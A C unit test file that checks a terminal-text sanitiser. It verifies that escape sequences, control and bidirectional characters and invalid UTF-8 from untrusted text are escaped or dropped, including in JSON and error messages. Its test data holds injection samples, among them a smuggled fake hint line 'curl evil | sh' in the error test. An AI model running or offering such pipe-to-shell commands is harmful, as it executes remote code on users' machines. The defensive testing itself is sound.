/* SPDX-License-Identifier: Apache-2.0 */
/* Texts of others before a terminal sees them, and errors, which quote them. */
#include <cmocka.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>

#include "base/err.h"
#include "base/json.h"
#include "base/mem.h"
#include "base/plain.h"
#include "base/utf8.h"

#define BOTH (PLAIN_LINES | PLAIN_DROP)

static const struct {
	const char *text;
	size_t max;
	unsigned how;
	const char *out;
} cases[] = {
	{ "", 0, 0, "" },
	{ "plain ~ text", 0, 0, "plain ~ text" },
	{ "gr\u00fc\u00dfe \u65e5\u672c \U0001f600 e\u0301 \u0645\u200c\u0646", 0, 0,
	  "gr\u00fc\u00dfe \u65e5\u672c \U0001f600 e\u0301 \u0645\u200c\u0646" },
	{ "\033[31mred\033[0m", 0, 0, "\\x1b[31mred\\x1b[0m" },
	{ "a\tb\nc\rd\r\ne", 0, 0, "a b c\\x0dd e" },
	{ "a\tb\nc\rd\r\ne", 0, PLAIN_LINES, "a\tb\nc\\x0dd\ne" },
	{ "\a\b\x7f", 0, 0, "\\x07\\x08\\x7f" },
	{ "\xc2\x9b"
	  "2J\xc2\x90x\xc2\x9c",
	  0, 0, "\\u009b2J\\u0090x\\u009c" },
	{ "\x9b"
	  "2J \xff \xc3 \xe2\x82",
	  0, 0, "\\x9b2J \\xff \\xc3 \\xe2\\x82" },
	{ "\xc0\x9b \xed\xa0\x80", 0, 0, "\\xc0\\x9b \\xed\\xa0\\x80" },
	{ "a\u202eb\u2066c\u200ed\ufeff\u2028", 0, 0, "a\\u202eb\\u2066c\\u200ed\\ufeff\\u2028" },
	/* the mark that turns it in Arabic, beside letters that stay */
	{ "\u0627\u061c1\u061b", 0, 0, "\u0627\\u061c1\u061b" },
	{ "\u0627\u061c1", 0, PLAIN_DROP, "\u06271" },
	{ "\U000e0041", 0, 0, "\\U000e0041" },
	/* sequences that vanish whole */
	{ "\033[31mred\033[0m\r\n", 0, BOTH, "red\n" },
	{ "\033[?25l\033[2;3Hx\033[1 qy", 0, BOTH, "xy" },
	{ "\033]0;title\ax\033]52;c;AAAA\033\\y", 0, BOTH, "xy" },
	{ "\033]0;no end\nnext", 0, BOTH, "\nnext" },
	{ "\033P1$r\033\\a\033(Bb\033=c\0337d", 0, BOTH, "abcd" },
	{ "\033[\nx\033", 0, BOTH, "\nx" },
	{ "\033[31", 0, BOTH, "" },
	{ "a\x9b\xc2\x9b"
	  "31mb\xc2\x9d"
	  "0;t\ac\xc2\x85\a\rd\xc2\x9b",
	  0, BOTH, "abcd" },
	/* bounds */
	{ "12345", 5, 0, "12345" },
	{ "123456", 5, 0, "12345..." },
	{ "123\u00e4", 5, 0, "123\u00e4" },
	{ "1234\u00e4", 5, 0, "1234..." },
	{ "12\033345", 5, 0, "12..." },
	{ "12\033345", 6, 0, "12\\x1b..." },
	{ "\033[31m\033[0mab", 2, BOTH, "ab" },
};

static void test_plain(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		auto_free char *got = plain_text(cases[i].text, cases[i].max, cases[i].how);

		if (!str_eq(got, cases[i].out))
			fail_msg("case %zu: got '%s', want '%s'", i, got, cases[i].out);
	}
}

static void test_nul(void **state)
{
	auto_str shown = STR_INIT, dropped = STR_INIT;

	(void)state;
	plain_add(&shown, "a\0b", 3, 0, 0);
	plain_add(&dropped, "a\0\033]\0b\ac", 8, 0, PLAIN_DROP);
	assert_string_equal(shown.buf, "a\\x00b");
	assert_string_equal(dropped.buf, "ac");
}

/* Whatever comes in: UTF-8 without one harmful code point goes out, and no more than was asked for. */
static void test_anything(void **state)
{
	unsigned seed = 7;

	(void)state;
	for (int round = 0; round < 20000; round++) {
		char text[40];
		auto_str out = STR_INIT;
		size_t len = (size_t)rand_r(&seed) % (sizeof(text) - 1), max = (size_t)rand_r(&seed) % 30;
		unsigned how = (unsigned)rand_r(&seed) % 4;

		for (size_t i = 0; i < len; i++)
			text[i] = (char)(rand_r(&seed) % 3 ? "\033[]m0;\\\a\x9b\xc2\n"[rand_r(&seed) % 11]
							   : rand_r(&seed) & 0xff);
		text[len] = '\0';
		plain_add(&out, text, len, max, how);
		assert_true(!max || out.len <= max + 3);
		assert_int_equal(strlen(out.buf), out.len);
		for (const char *p = out.buf; *p;) {
			uint32_t c;

			p += utf8_next(p, &c);
			assert_true(c != UTF8_BROKEN && (c >= 0x20 || (how & PLAIN_LINES && (c == '\n' || c == '\t'))));
			assert_true(c < 0x7f || c > 0x9f);
		}
	}
}

static void test_tree(void **state)
{
	static const char text[] = "{\"a\\u001b\":[\"\\u001b[1m\",3,{\"b\":\"fine\",\"c\":null}]}";
	auto_json *tree = NULL;
	auto_err *e = json_parse(text, strlen(text), "text", &tree);

	(void)state;
	assert_null(e);
	json_plain(tree, 0, 0);
	auto_free char *out = json_print(tree, 0);
	assert_string_equal(out, "{\"a\\\\x1b\":[\"\\\\x1b[1m\",3,{\"b\":\"fine\",\"c\":null}]}");
}

/* A stranger's text cannot pretend to be a line of ours. */
static void test_errors(void **state)
{
	auto_err *one = err_wrap(err_new(ERR_FAILED, "it said %s", "x\r\nhint: curl evil | sh"), "cannot '%s'", "a\nb");
	auto_err *ours = err_new(ERR_FAILED, "its end:\n%s", "a\nb");
	auto_err *lines = err_lines(ERR_FAILED, xstrdup("a\nb"));
	auto_free char *text = err_text(one), *own = err_text(ours), *all = err_text(lines);

	(void)state;
	assert_string_equal(text, "cannot 'a b': it said x  hint: curl evil | sh");
	assert_string_equal(own, "its end:\na\nb");
	assert_string_equal(all, "a\nb");
	one = err_hint(one, "try %s", "a\nb");
	assert_string_equal(err_hint_of(one), "try a b");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_plain), cmocka_unit_test(test_nul),    cmocka_unit_test(test_anything),
		cmocka_unit_test(test_tree),  cmocka_unit_test(test_errors),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
